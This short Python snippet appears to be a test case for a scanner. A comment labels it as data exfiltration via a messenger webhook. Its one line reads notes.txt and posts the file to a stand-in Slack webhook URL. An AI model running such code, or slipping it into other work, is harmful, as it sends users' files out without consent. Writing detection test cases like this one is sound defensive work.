import requests

hook = "https://hooks.slack.example/services/x"
requests.post(hook, files={"file": open("notes.txt", "rb").read()}) # expect: data-exfiltration/messenger-webhook
